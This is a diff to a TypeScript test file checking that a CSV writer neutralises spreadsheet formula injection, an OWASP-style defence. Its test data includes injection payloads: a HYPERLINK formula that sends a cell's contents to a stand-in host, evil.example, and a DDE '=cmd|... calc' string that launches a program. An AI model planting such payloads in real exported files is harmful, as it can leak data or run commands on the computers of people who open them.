@@ -51,11 +51,56 @@ test('toCSV writes canonical text that parses back to the same rows', () => {
 });
 
 test('toCSV quotes exactly where papaparse’s unparse would, so files stay byte-identical', () => {
-  const awkward = ['plain', 'a,b', 'say "no"', 'line\nbreak', 'cr\rhere', ' lead', 'trail ', 'in side', '\ufeffbom', '', 'tab\tx', '=1+2', 'ñandú — “curly”'];
+  const awkward = ['plain', '-5 lead', '@x', '+1', '\tindent', 'a=b', 'a,b', 'say "no"', 'line\nbreak', 'cr\rhere', ' lead', 'trail ', 'in side', '\ufeffbom', '', 'tab\tx', '=1+2', 'ñandú — “curly”'];
   const rows = awkward.map((value, i) => ({ id: String(i), value, other: awkward[awkward.length - 1 - i]! }));
-  const papa = Papa.unparse({ fields: ['id', 'value', 'other'], data: rows.map((r) => [r.id, r.value, r.other]) }, { newline: '\n', quotes: false }) + '\n';
+  const papa = Papa.unparse({ fields: ['id', 'value', 'other'], data: rows.map((r) => [r.id, r.value, r.other]) }, { newline: '\n', quotes: false, escapeFormulae: true }) + '\n';
   assert.equal(toCSV(rows), papa);
   assert.equal(toCSV([]), '\n', 'no rows and no schema: no columns');
   // No rows: the header line alone (papaparse added a blank line after it).
   assert.equal(toCSV([], defineSchema({ name: 't', key: [], fields: { 'a b ': { type: 'string' }, 'c,d': { type: 'string' } } } as never)), '"a b ","c,d"\n');
+});
+
+test('a text a spreadsheet would run as a formula is neutralised (OWASP): leading apostrophe, quoted', () => {
+  const rows = [
+    { text: '=HYPERLINK("https://evil.example/?d="&A1,"Click")', n: -22.8 },
+    { text: '+1-555-0100', n: 0 },
+    { text: '-22.8', n: -1 },
+    { text: '@SUM(A1:A2)', n: 3 },
+    { text: '\t=1+1', n: 4 },
+    { text: '\r=1+1', n: 5 },
+    // papaparse's escapeFormulae misses this one: its /^[=…].*$/ does not cross a line break.
+    { text: '=1+1\nsecond line', n: 6 },
+    { text: 'safe = text', n: Number.NEGATIVE_INFINITY },
+  ];
+  assert.equal(
+    toCSV(rows),
+    [
+      'text,n',
+      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")",-22.8`,
+      `"'+1-555-0100",0`,
+      `"'-22.8",-1`,
+      `"'@SUM(A1:A2)",3`,
+      `"'\t=1+1",4`,
+      `"'\r=1+1",5`,
+      `"'=1+1\nsecond line",6`,
+      // Not a finite number: a spreadsheet would try "-Infinity" as a formula.
+      `safe = text,"'-Infinity"`,
+      '',
+    ].join('\n'),
+  );
+});
+
+test('with a schema, number fields stay numbers and text fields are neutralised, also in headers', () => {
+  const s = defineSchema({
+    name: 'changes',
+    key: ['name'],
+    fields: {
+      name: { type: 'string', description: 'text' },
+      change: { type: 'number', nullable: true, description: 'percent' },
+      tags: { type: 'list', separator: ';', description: 'list' },
+    },
+  });
+  const text = toCSV([{ name: '=cmd|\' /C calc\'!A0', change: -22.8, tags: ['-x', 'y'] }, { name: 'Ohio', change: null, tags: [] }], s);
+  assert.equal(text, `name,change,tags\n"'=cmd|' /C calc'!A0",-22.8,"'-x;y"\nOhio,,\n`);
+  assert.equal(toCSV([{ '=bad header': 1 }]), `"'=bad header"\n1\n`);
 });
